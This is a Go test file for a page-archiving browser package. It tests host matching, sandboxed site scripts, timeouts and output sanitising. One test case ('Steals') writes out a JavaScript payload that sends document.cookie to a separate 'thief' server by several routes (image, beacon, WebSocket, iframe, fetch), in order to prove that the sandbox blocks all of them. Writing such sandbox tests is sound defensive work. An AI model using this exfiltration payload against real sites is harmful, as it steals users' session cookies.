package browser

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

func TestScriptMatches(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		pattern, host string
		want          bool
	}{
		"Name":      {"www.example.org", "www.example.org", true},
		"Case":      {"WWW.example.org", "www.EXAMPLE.org.", true},
		"Other":     {"www.example.org", "example.org", false},
		"Below":     {"*.example.org", "a.b.example.org", true},
		"Itself":    {"*.example.org", "example.org", true},
		"NotBelow":  {"*.example.org", "badexample.org", false},
		"NoPattern": {"*", "example.org", false},
	}
	for name, tc := range tests {
		s := Script{Hosts: []string{tc.pattern}}
		if got := s.Matches(tc.host); got != tc.want {
			t.Errorf("%s: %q matches %q: %v", name, tc.pattern, tc.host, got)
		}
	}
}

// TestSiteScripts: a script works on the document, and nothing that it does costs the page.
func TestSiteScripts(t *testing.T) {
	t.Parallel()
	var stolen atomic.Int32
	thief := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		stolen.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	var err error
	thief.Listener.Close()
	if thief.Listener, err = net.Listen("tcp", "127.0.0.2:0"); err != nil { // another site on the same machine
		t.Fatal(err)
	}
	thief.Start()
	t.Cleanup(thief.Close)
	elsewhere := thief.URL
	site := serve(t, map[string]any{
		"/{$}": `<title>stays</title><link rel=icon href=data:,><p id=p>before</p><script>document.cookie = 'secret=1'; var token = 'of the page'; Promise = JSON = undefined</script>`,
		"/api": func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "answer") },
	})
	pool := newPool(t, func(o *Options) { o.Tabs = 4 })
	tests := map[string]struct {
		reason, source string
		outcome        string
		action, limit  string
		text           string
		line           string
	}{
		"Works":      {"It changes the document and counts.", `async () => { p.textContent = 'changed'; return { items: 3, note: 'secret', 'bad name': 1, half: 0.5 } }`, "done", "own.js was run: items 3", "", "changed", ""},
		"Comment":    {"Comments around it are no hindrance.", "// what it does\nasync function name() { p.textContent = 'changed' }\n// the end", "done", "own.js was run", "", "changed", ""},
		"Isolated":   {"It sees none of the page's objects, nor ours.", `async () => { p.textContent = typeof token + ' ' + typeof crawlfleetState }`, "done", "own.js was run", "", "undefined undefined", ""},
		"Fetch":      {"What it asks for is recorded.", `async () => { p.textContent = await (await fetch('/api?own')).text() }`, "done", "own.js was run", "", "answer", "GET /api?own record"},
		"Throws":     {"An error is told.", `async () => { throw new Error('went wrong') }`, "failed", "", "went wrong", "before", ""},
		"Syntax":     {"So is what is no JavaScript.", `async () => {`, "failed", "", "SyntaxError", "before", ""},
		"NoFunction": {"So is what is no function.", `1 + 1`, "failed", "", "no function", "before", ""},
		"Navigates":  {"It cannot leave the page.", `async () => { location.href = '/api?left'; await new Promise(r => setTimeout(r, 300)) }`, "done", "own.js was run", "", "before", "GET /api?left blocked"},
		"Submits":    {"It cannot submit a form.", `async () => { const f = document.createElement('form'); f.action = '/api?sent'; f.method = 'post'; document.body.append(f); f.submit() }`, "done", "own.js was run", "", "before", "POST /api?sent blocked"},
		"Steals": {"It reaches no site that the page has not reached.", `async () => { const to = '` + elsewhere + `/?' + document.cookie; new Image().src = to; navigator.sendBeacon(to); new WebSocket(to.replace('http', 'ws'));
			document.body.insertAdjacentHTML('beforeend', '<iframe src="' + to + '"></iframe><link rel=stylesheet href="' + to + '">'); setTimeout(() => fetch(to), 200); await fetch(to, { mode: 'no-cors' }).catch(() => {}); p.textContent = 'tried' }`, "done", "own.js was run", "", "tried", ""},
		"Elsewhere": {"It is not run on other hosts.", `async () => { p.textContent = 'changed' }`, "", "", "", "before", ""},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			hosts := []string{"127.0.0.1"}
			if tc.outcome == "" {
				hosts = []string{"*.example.org"}
			}
			script := Script{Name: "own.js", Hosts: hosts, Source: tc.source}
			p := visit(t, newStay(t, pool, StayOptions{}), site.URL+"/", func(v *Visit) { v.Scripts = []Script{script} })
			if want := (Outcome{State: Archived}); p.Outcome != want || p.Title != "stays" {
				t.Errorf("%s\noutcome %+v, title %q", tc.reason, p.Outcome, p.Title)
			}
			if text := read(t, p.TextFile); !strings.Contains(text, tc.text) {
				t.Errorf("%s\ntext %q, want %q", tc.reason, text, tc.text)
			}
			if said := strings.Join(actions(p, "script"), "\n"); said != tc.action {
				t.Errorf("%s\nactions %q, want %q", tc.reason, said, tc.action)
			}
			limits := fmt.Sprint(p.Limits)
			if (tc.limit == "") != !hasLimit(p, "Script") || !strings.Contains(limits, tc.limit) {
				t.Errorf("%s\nlimits %s, want %q", tc.reason, limits, tc.limit)
			}
			if tc.line != "" && !strings.Contains(strings.Join(requested(p, site.URL), "\n"), tc.line) {
				t.Errorf("%s\nrequests %q, want %q", tc.reason, requested(p, site.URL), tc.line)
			}
			switch {
			case tc.outcome == "" && len(p.Scripts) != 0, tc.outcome != "" && (len(p.Scripts) != 1 || p.Scripts[0].Outcome != tc.outcome || p.Scripts[0].SHA256 != script.SHA256()):
				t.Errorf("%s\nscripts %+v, want %s", tc.reason, p.Scripts, tc.outcome)
			}
		})
	}
	t.Cleanup(func() {
		if n := stolen.Load(); n != 0 {
			t.Errorf("the thief was reached %d times", n)
		}
	})
}

// TestScriptsThatDoNotEnd: a script's time is bounded, whether it waits or works, and the
// page goes on.
func TestScriptsThatDoNotEnd(t *testing.T) {
	t.Parallel()
	site := serve(t, map[string]any{"/": `<title>stays</title><link rel=icon href=data:,><p>All is well</p>`})
	pool := newPool(t)
	for name, source := range map[string]string{
		"Waits": `async () => { await new Promise(() => {}) }`,
		"Works": `async () => { for (;;); }`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := visit(t, newStay(t, pool, StayOptions{}), site.URL, func(v *Visit) {
				v.Scripts = []Script{{Name: "own.js", Hosts: []string{"127.0.0.1"}, Source: source}}
			})
			if p.Outcome.State != Archived || !strings.Contains(read(t, p.TextFile), "All is well") || !hasLimit(p, "Script") {
				t.Errorf("outcome %+v, limits %+v", p.Outcome, p.Limits)
			}
			if len(p.Scripts) != 1 || p.Scripts[0].Outcome != "timeout" || p.Timings.Settled > scriptTimeout+15*time.Second {
				t.Errorf("scripts %+v, settled after %s", p.Scripts, p.Timings.Settled)
			}
		})
	}
}

// TestCountsOf: of what a script says, nothing is kept that could be the page's content.
func TestCountsOf(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`"{\"b\":2,\"a\":-1}"`: ": a -1, b 2",
		`"null"`:               "", `"[1]"`: "", `"{"`: "", `{}`: "", ``: "", `"\"text\""`: "",
		`"{\"a\":\"text\",\"b\":1.5,\"c\":1e12,\"a b\":1,\"x1\":1,\"\":1,\"d\":true,\"e\":{\"f\":1}}"`: "",
		`"{\"a\":1,\"b\":1,\"c\":1,\"d\":1,\"e\":1,\"f\":1,\"g\":1,\"h\":1,\"i\":1,\"j\":1,\"k\":1}"`:  ": a 1, b 1, c 1, d 1, e 1, f 1, g 1, h 1, i 1, j 1",
	} {
		if got := countsOf([]byte(in)); got != want {
			t.Errorf("%s: %q, want %q", in, got, want)
		}
	}
}

func FuzzCountsOf(f *testing.F) {
	f.Add([]byte(`"{\"opened\":3}"`))
	f.Add([]byte(`"{\"a\":\"text\"}"`))
	f.Fuzz(func(t *testing.T, raw []byte) {
		if got := countsOf(raw); len(got) > maxCounts*(32+1+11+2)+2 {
			t.Errorf("%d bytes", len(got))
		}
	})
}

func TestSiteOf(t *testing.T) {
	t.Parallel()
	for host, want := range map[string]string{
		"www.Example.org.": "example.org", "a.b.example.co.uk": "example.co.uk", "me.github.io": "me.github.io",
		"127.0.0.1": "127.0.0.1", "::1": "::1", "localhost": "localhost", "": "",
	} {
		if got := siteOf(host); got != want {
			t.Errorf("%q: %q, want %q", host, got, want)
		}
	}
}
